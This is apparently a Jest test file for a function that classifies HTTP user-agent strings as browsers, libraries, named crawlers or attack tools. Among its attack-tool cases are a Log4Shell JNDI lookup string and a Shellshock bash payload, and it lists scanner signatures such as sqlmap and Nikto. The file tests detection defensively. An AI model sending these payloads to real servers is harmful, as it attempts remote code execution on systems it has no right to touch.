import { describe, expect, it } from '@jest/globals';
import catalogue from 'crawler-user-agents';
import { identifyUserAgent } from './identify-user-agent.js';

const CHROME =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
const PIXEL =
  'Mozilla/5.0 (Linux; Android 15; Pixel 8 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.0.0 Mobile Safari/537.36';
const GOOGLEBOT_PHONE =
  'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.105 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';

describe('identifyUserAgent', () => {
  it.each([
    [CHROME, 'Chrome', 'browser', 126, 'Windows'],
    [`${CHROME} Edg/126.0.0.0`, 'Edge', 'browser', 126, 'Windows'],
    [`${CHROME} OPR/111.0.0.0`, 'Opera', 'browser', 111, 'Windows'],
    [PIXEL, 'Chrome', 'browser', 126, 'Android'],
    [
      'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
      'Firefox',
      'browser',
      128,
      'Linux',
    ],
    [
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
      'Safari',
      'browser',
      17,
      'iOS',
    ],
    [
      'Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko',
      'Internet Explorer',
      'browser',
      11,
      'Windows',
    ],
    [
      'Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.1.2 Mobile Safari/537.36',
      'Chrome',
      'browser',
      99,
      'Android',
    ],
    ['curl/8.4.0', 'curl', 'tool', 8, ''],
    ['Wget/1.21', 'Wget', 'tool', 1, ''],
    ['python-requests/2.31.0', 'python-requests', 'library', 2, ''],
    ['Go-http-client/1.1', 'Go-http-client', 'library', 1, ''],
    ['Java/1.8.0_191', 'Java', 'library', 1, ''],
    [CHROME.replace('Chrome', 'HeadlessChrome'), 'HeadlessChrome', 'tool', 126, 'Windows'],
    ['okhttp/4.12.0', 'okhttp', 'app', 4, ''],
    ['ShopApp/512 CFNetwork/1496.0.7 Darwin/23.5.0', 'ShopApp', 'app', 512, 'iOS'],
    ['Larkfield/7.2 (Android 14; SM-S921B) okhttp/4.12.0', 'Larkfield', 'app', 7, 'Android'],
    ['node-fetch/1.0 (+https://github.com/bitinn/node-fetch)', 'node-fetch', 'library', 1, ''],
    ['BankApp/5.2.1 (iPhone; iOS 17.5; Scale/3.00)', 'BankApp', 'app', 5, 'iOS'],
    [GOOGLEBOT_PHONE, 'Googlebot', 'crawler', null, 'Android'],
    ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'sqlmap', 'tool', null, ''],
    ['xyzzy', 'xyzzy', 'unknown', null, ''],
  ])('%s', (userAgent, family, kind, majorVersion, operatingSystem) => {
    expect(identifyUserAgent(userAgent)).toMatchObject({
      family,
      kind,
      majorVersion,
      operatingSystem,
    });
  });

  it.each(['', '-', '   '])('%j is empty', (userAgent) => {
    expect(identifyUserAgent(userAgent)).toMatchObject({ kind: 'empty', family: '' });
  });

  it.each([
    [GOOGLEBOT_PHONE, 'Googlebot', 'Google', 'search_indexing'],
    [
      'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
      'bingbot',
      'Microsoft',
      'search_indexing',
    ],
    [
      'Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)',
      'YandexBot',
      'Yandex',
      'search_indexing',
    ],
    [
      'Mozilla/5.0 (compatible; YandexBot/3.0; YandexRenderResourcesBot/1.0; +http://yandex.com/bots)',
      'YandexRenderResourcesBot',
      'Yandex',
      'search_indexing',
    ],
    [
      'Feedly/1.0 (+http://www.feedly.com/fetcher.html; 1804 subscribers; like FeedFetcher-Google)',
      'Feedly',
      'Feedly',
      'feed',
    ],
    ['TelegramBot (like TwitterBot)', 'TelegramBot', 'Telegram', 'preview'],
    [
      'Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)',
      'GPTBot',
      'OpenAI',
      'ai_training',
    ],
    [
      'Mozilla/5.0 (compatible; ChatGPT-User/1.0; +https://openai.com/bot)',
      'ChatGPT-User',
      'OpenAI',
      'ai_user_fetch',
    ],
    ['Mozilla/5.0 (compatible; OAI-SearchBot/1.0)', 'OAI-SearchBot', 'OpenAI', 'search_indexing'],
    [
      'Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)',
      'SemrushBot',
      'Semrush',
      'seo',
    ],
    [
      'jetmon/1.0 (Jetpack Site Uptime Monitor by WordPress.com)',
      'jetmon',
      'Automattic',
      'monitoring',
    ],
    [
      'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)',
      'facebookexternalhit',
      'Meta',
      'preview',
    ],
    [
      'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
      'CensysInspect',
      'censys.io',
      'security_scan',
    ],
    [
      'Mozilla/5.0 (compatible; Birdcrawlerbot/0.5; +https://crawla.de)',
      'Birdcrawlerbot',
      'crawla.de',
      'other',
    ],
  ])('%s is a crawler', (userAgent, name, operator, purpose) => {
    const { crawler, attackTool } = identifyUserAgent(userAgent);
    expect(crawler).toMatchObject({ name, operator, purpose });
    expect(attackTool).toBe(false);
  });

  it.each([
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    'Fuzz Faster U Fool v1.5.0-dev',
    'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)',
    'DirBuster-0.12 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
    'Mozilla/5.0 zgrab/0.x',
    'WPScan v3.8.22 (https://wpscan.org/)',
    '${jndi:ldap://198.51.100.7/a}',
    '() { :;}; /bin/bash -c id',
    'Hello, World',
  ])('%s is an attack tool, no crawler', (userAgent) => {
    expect(identifyUserAgent(userAgent)).toMatchObject({
      attackTool: true,
      kind: 'tool',
      crawler: null,
    });
  });
});

describe("the catalogue's own examples", () => {
  const NOT_CRAWLERS = ['http-library', 'browser-automation'];
  const entries = catalogue as unknown as { tags: string[]; instances: string[] }[];
  const examples = entries
    .filter(({ tags }) => tags.some((tag) => !NOT_CRAWLERS.includes(tag)))
    .flatMap(({ instances }) => instances);

  it('are software by their own words, all but the few that people send too', () => {
    const missed = examples.filter((userAgent) => {
      const { kind, attackTool } = identifyUserAgent(userAgent);
      return kind !== 'crawler' && kind !== 'tool' && kind !== 'library' && !attackTool;
    });
    expect(examples.length).toBeGreaterThan(1_800);
    expect(missed.length / examples.length).toBeLessThan(0.005);
  });
});

describe('hostile user agents', () => {
  const fillers = [
    'a',
    'bot',
    'Spider',
    'Current',
    'Mozilla/5.0 (',
    '+http://',
    '(',
    '\\x00',
    '%s',
    'MSIE ',
    'Googlebo',
  ];

  it.each(fillers)('a megabyte of %j costs no more than its first kilobyte', (filler) => {
    const text = filler.repeat(Math.ceil(1_000_000 / filler.length));
    const before = performance.now();
    const identity = identifyUserAgent(text);
    // 100 ms a line is the budget for hostile input; this is far below even on a busy machine.
    expect(performance.now() - before).toBeLessThan(100);
    expect(identity.family.length).toBeLessThanOrEqual(60);
  });

  it('survives any characters', () => {
    for (let code = 0; code < 0x300; code += 1) {
      const text = `Mozilla/5.0 ${String.fromCharCode(code).repeat(3)} \ud800 x`;
      expect(() => identifyUserAgent(text)).not.toThrow();
    }
  });
});
